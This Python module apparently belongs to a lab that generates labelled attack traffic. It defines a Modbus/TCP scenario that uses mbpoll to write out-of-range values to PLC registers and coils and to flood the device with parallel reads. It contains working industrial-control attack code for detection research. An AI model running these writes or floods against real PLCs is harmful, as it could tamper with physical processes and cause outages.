"""Modbus/TCP attack: unauthorised writes and request floods with ``mbpoll`` (Debian).

Modbus has no authentication, so anyone who reaches port 502 may overwrite setpoints and
switch coils, or swamp the PLC with reads; both are classic ICS attacks. The runs
alternate by iteration between:

* a write burst: a bounded loop of one-shot ``mbpoll`` writes (``-1``; mbpoll writes once
  and exits), each its own TCP connection, mixing holding registers (``-t 4``, one value:
  function 6, several: function 16) and coils (``-t 0``, functions 5 and 15), at random
  references with out-of-range values (0, 65535, ...), as a scripted tamper would;
* a read flood: several ``mbpoll`` pollers at once, each reading the largest block its
  table allows (``-c 125`` registers, the coils and discrete inputs) every 10 ms on one
  kept-open connection, each ended by ``timeout`` after the seconds the packet budget
  needs (and by the run's own time limit).

mbpoll cannot bind a source address: its packets come from the kernel's ``127.0.0.1``, so
the marker and target is the dedicated ``modbus_victim`` address only this tool talks to.
The loops run under ``sh -c`` with the addresses inline, so the lab's argv check sees them.
"""

from __future__ import annotations

import math
import shlex

from amlhp.lab.scenario import AttackContext, Scenario, ToolRun, time_limit

#: packets of one one-shot write (handshake, request, reply, ACK, FIN exchange)
PACKETS_PER_WRITE = 10
#: packets of one flood request on an open connection (request, reply, ACK)
PACKETS_PER_READ = 3
MAX_READERS = 4
READS_PER_S = 80  # one mbpoll with -l 10 (measured: 80-90 on a busy 2-core machine)
#: (mbpoll table, start reference range, count): the server's table sizes (modbus_server)
READ_TABLES = (("3", 76, 125), ("4", 126, 125), ("0", 1, 64), ("1", 1, 32))
EVIL_VALUES = (0, 1, 999, 9999, 32767, 65535)


def _mbpoll(ctx: AttackContext, s: Scenario, table: str, ref: int, extra: list[str]) -> list[str]:
    t = ctx.topology
    return ["mbpoll", "-m", "tcp", "-p", str(t.ports.modbus), "-a", "1", "-t", table,
            "-r", str(ref), "-o", "1", "-q", *extra, str(s.target_address(t))]  # fmt: skip


def _write_burst(s: Scenario, ctx: AttackContext, packets: int) -> ToolRun:
    rng = ctx.rng
    writes = max(3, min(200, math.ceil(packets / PACKETS_PER_WRITE)))
    commands = []
    for _ in range(writes):
        if rng.random() < 0.6:
            values = [str(rng.choice(EVIL_VALUES)) for _ in range(rng.choice((1, 1, 2, 4, 8)))]
            argv = _mbpoll(ctx, s, "4", rng.randint(1, 240), ["-1"])
        else:
            values = [str(rng.randint(0, 1)) for _ in range(rng.choice((1, 1, 4, 16)))]
            argv = _mbpoll(ctx, s, "0", rng.randint(1, 64 - len(values) + 1), ["-1"])
        commands.append(shlex.join([*argv, *values]))
    script = " ; ".join(commands) + " ; true"
    limit = time_limit(ctx, writes * 0.2 + 10)
    return ToolRun(["sh", "-c", script], timeout_s=limit)


def _read_flood(s: Scenario, ctx: AttackContext, packets: int) -> ToolRun:
    rng = ctx.rng
    requests = max(20, min(200_000, math.ceil(packets / PACKETS_PER_READ)))
    n_readers = max(1, min(MAX_READERS, requests // READS_PER_S))
    seconds = max(1, math.ceil(requests / (n_readers * READS_PER_S)))
    seconds = int(min(seconds, time_limit(ctx, 120)))
    readers = []
    for _ in range(n_readers):
        table, ref_hi, count = rng.choice(READ_TABLES)
        argv = _mbpoll(ctx, s, table, rng.randint(1, ref_hi), ["-c", str(count), "-l", "10"])
        readers.append(shlex.join(["timeout", "-s", "INT", str(seconds), *argv]) + " >/dev/null &")
    script = " ".join(readers) + " wait"
    return ToolRun(["sh", "-c", script], timeout_s=time_limit(ctx, seconds + 3))


def _modbus_attack(s: Scenario, ctx: AttackContext, packets: int) -> ToolRun:
    """Alternate write bursts (even iterations) and read floods (odd ones).

    Each run takes at most half of the packets still wanted, so even a short run (the CI
    profile) holds both kinds.
    """
    share = max(30, math.ceil(packets / 2))
    if ctx.iteration % 2 == 0:
        return _write_burst(s, ctx, share)
    return _read_flood(s, ctx, share)


MODBUS_SCENARIOS: tuple[Scenario, ...] = (
    Scenario(
        "modbus_attack", "modbus_attack", "mbpoll",
        "unauthorised Modbus/TCP register and coil writes, and read floods, against a PLC",
        lambda t: t.modbus_victim, lambda t: t.modbus_victim,
        _modbus_attack, packets_per_unit=PACKETS_PER_READ,
    ),
)  # fmt: skip
